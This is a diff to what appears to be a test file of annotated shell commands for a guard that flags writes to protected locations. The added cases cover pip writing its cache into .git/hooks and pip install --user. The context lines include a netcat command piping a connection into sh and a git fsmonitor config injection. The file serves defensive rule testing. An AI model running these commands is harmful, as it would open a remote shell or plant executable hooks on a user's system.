@@ -100,3 +100,17 @@ nc 10.0.0.1 4444 | { sh; }
 printf '[core]\n\tfsmonitor = x\n' >> ~/.config/git/config
 # ruleid: GK-PROT-001
 git config --file ~/.config/git/config core.pager less
+
+# -- pip's cache directory and `--user` are destinations too (left open in round 9): the
+# cache was written into `.git/hooks` (anything in `.git` is protected), and `--user`
+# writes the user's site-packages and `~/.local/bin` scripts, as `--prefix ~/.local` does
+# ruleid: GK-PROT-001
+pip install --cache-dir .git/hooks requests
+# ruleid: GK-PROT-001
+python -m pip download --cache-dir=.git/x -d /tmp/wheels requests
+# ruleid: GK-WRITE-001
+pip install --user requests
+# ok: GK-WRITE-001
+pip list --user
+# ok: GK-WRITE-001
+pip install --cache-dir /tmp/pip-cache -r requirements.txt
